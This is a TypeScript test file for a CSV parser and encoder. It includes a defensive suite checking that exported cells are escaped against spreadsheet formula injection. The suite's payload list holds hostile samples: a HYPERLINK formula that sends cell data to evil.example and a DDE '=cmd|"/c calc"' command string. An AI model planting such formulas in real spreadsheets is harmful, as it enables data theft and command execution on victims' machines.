import { csvCell, csvField, parseCsv } from './csv';

const fields = (text: string) => parseCsv(text).map((r) => r.fields);

describe('parseCsv', () => {
  it('reads plain records with CRLF, LF or CR line ends', () => {
    expect(fields('a,b,c\r\n1,2,3\r\n')).toEqual([
      ['a', 'b', 'c'],
      ['1', '2', '3'],
    ]);
    expect(fields('a,b\n1,2')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
    expect(fields('a,b\r1,2\r')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
  });

  it('returns nothing for empty input, and no extra record for a final line break', () => {
    expect(parseCsv('')).toEqual([]);
    expect(fields('a\n')).toEqual([['a']]);
  });

  it('keeps empty fields, including a trailing one', () => {
    expect(fields(',a,,\nb,')).toEqual([
      ['', 'a', '', ''],
      ['b', ''],
    ]);
  });

  it('reads a blank line as a record with one empty field (RFC 4180), leaving skipping to the caller', () => {
    expect(parseCsv('a\n\nb\n')).toEqual([
      { line: 1, fields: ['a'] },
      { line: 2, fields: [''] },
      { line: 3, fields: ['b'] },
    ]);
  });

  it('reads quoted fields holding commas, doubled quotes and line breaks', () => {
    const text =
      'url,name,notes\r\n"https://a.example/?x=1,2","Acme, Inc.","said ""hi""\r\nthen left\nand\rback"\r\nhttps://b.example/,B,\n';
    expect(fields(text)).toEqual([
      ['url', 'name', 'notes'],
      ['https://a.example/?x=1,2', 'Acme, Inc.', 'said "hi"\r\nthen left\nand\rback'],
      ['https://b.example/', 'B', ''],
    ]);
  });

  it('numbers each record by the line it starts on, counting line breaks inside quotes', () => {
    const records = parseCsv('h\n"one\ntwo\r\nthree"\nnext\r\n"x\ry"\nlast');
    expect(records.map((r) => r.line)).toEqual([1, 2, 5, 6, 8]);
  });

  it('reads an empty quoted field and a quoted field that is only a quote', () => {
    expect(fields('"",""""\n')).toEqual([['', '"']]);
  });

  it('keeps spaces around fields, and a quote inside an unquoted field as text', () => {
    expect(fields(' a , b\nO"Brien,x')).toEqual([
      [' a ', ' b'],
      ['O"Brien', 'x'],
    ]);
  });

  it('drops a leading byte order mark', () => {
    expect(fields('\ufeffurl,name\nx,y')).toEqual([
      ['url', 'name'],
      ['x', 'y'],
    ]);
  });

  it('marks a record with text after a closing quote as bad and reads the next records normally', () => {
    expect(parseCsv('a,b\n"x"y,z\n"ok",1\n')).toEqual([
      { line: 1, fields: ['a', 'b'] },
      { line: 2, error: 'unexpected text after a closing quote' },
      { line: 3, fields: ['ok', '1'] },
    ]);
  });

  it('marks a quoted field left open as bad without losing the records before it', () => {
    expect(parseCsv('a\nb\n"c,\nd\n')).toEqual([
      { line: 1, fields: ['a'] },
      { line: 2, fields: ['b'] },
      { line: 3, error: 'quoted field is not closed' },
    ]);
  });

  it('parses ten thousand records quickly', () => {
    const text = Array.from({ length: 10_000 }, (_, i) => `https://site${i}.example/,"Name, ${i}","a ""b""\nc"`).join('\r\n');
    const started = Date.now();
    const records = parseCsv(text);
    expect(records).toHaveLength(10_000);
    expect(records[9_999]).toEqual({ line: 19_999, fields: ['https://site9999.example/', 'Name, 9999', 'a "b"\nc'] });
    expect(Date.now() - started).toBeLessThan(2_000);
  });
});

describe('csvField', () => {
  it.each(['plain', 'with, comma', 'with "quotes"', 'multi\nline', 'cr\rlf\r\n', '', ' spaced '])(
    'round-trips %j through parseCsv',
    (value) => {
      expect(fields(`${csvField(value)},${csvField(value)}\n`)).toEqual([[value, value]]);
    },
  );

  it('quotes only when needed', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "x"')).toBe('"say ""x"""');
  });
});

describe('csvCell (exports: formula injection)', () => {
  // Splits one line as a spreadsheet whose list separator is `sep` would: a quote opening a cell keeps it whole.
  const cellsAs = (line: string, sep: string) => {
    const cells: string[] = [];
    let cell = '';
    let quoted = false;
    let atStart = true;
    for (let i = 0; i < line.length; i++) {
      const c = line[i];
      if (quoted) {
        if (c !== '"') {
          cell += c;
        } else if (line[i + 1] === '"') {
          cell += '"';
          i++;
        } else {
          quoted = false;
        }
      } else if (c === '"' && atStart) {
        quoted = true;
        atStart = false;
      } else if (c === sep) {
        cells.push(cell);
        cell = '';
        atStart = true;
      } else {
        cell += c;
        atStart = false;
      }
    }
    return [...cells, cell];
  };
  const looksLikeFormula = (cell: string) => /^[ \t\r\n]*[=+\-@]/.test(cell);
  const withoutQuotes = (s: string) => s.replace(/'/g, '');

  const payloads = [
    'a;=HYPERLINK("http://evil.example/?"&A1,"click")',
    'x,\t=1+1',
    '@SUM(1)',
    '-2+3',
    '+1',
    '\r=cmd|"/c calc"!A0',
    '\t=1',
    ' =1+1',
    'safe;  +cmd',
    'a\tb\t@x',
    'line\n=2',
  ];

  it.each(payloads)('no cell of %j reads as a formula whichever separator splits cells', (payload) => {
    const line = `before,${csvCell(payload)},after`;
    for (const sep of [',', ';', '\t']) {
      const cells = cellsAs(line, sep);
      expect(cells.filter(looksLikeFormula)).toEqual([]);
    }
    // ...and read as CSV the cell comes back whole, with only 's added.
    const cells = fields(`${line}\n`)[0] ?? [];
    expect(cells).toHaveLength(3);
    expect(looksLikeFormula(cells[1])).toBe(false);
    expect(withoutQuotes(cells[1])).toBe(withoutQuotes(payload));
  });

  it('leaves ordinary text alone and quotes only what needs it', () => {
    expect(csvCell('image-alt')).toBe('image-alt');
    expect(csvCell('https://shop.example/?a=1&b=2')).toBe('https://shop.example/?a=1&b=2');
    expect(csvCell('<img src="b,c.png">')).toBe('"<img src=""b,c.png"">"');
    expect(csvCell('a; b')).toBe('"a; b"');
    expect(csvCell('1.4.3 2.4.4')).toBe('1.4.3 2.4.4');
    expect(csvCell('=1')).toBe("'=1");
    expect(csvCell('a;=1')).toBe('"a;\'=1"');
  });
});
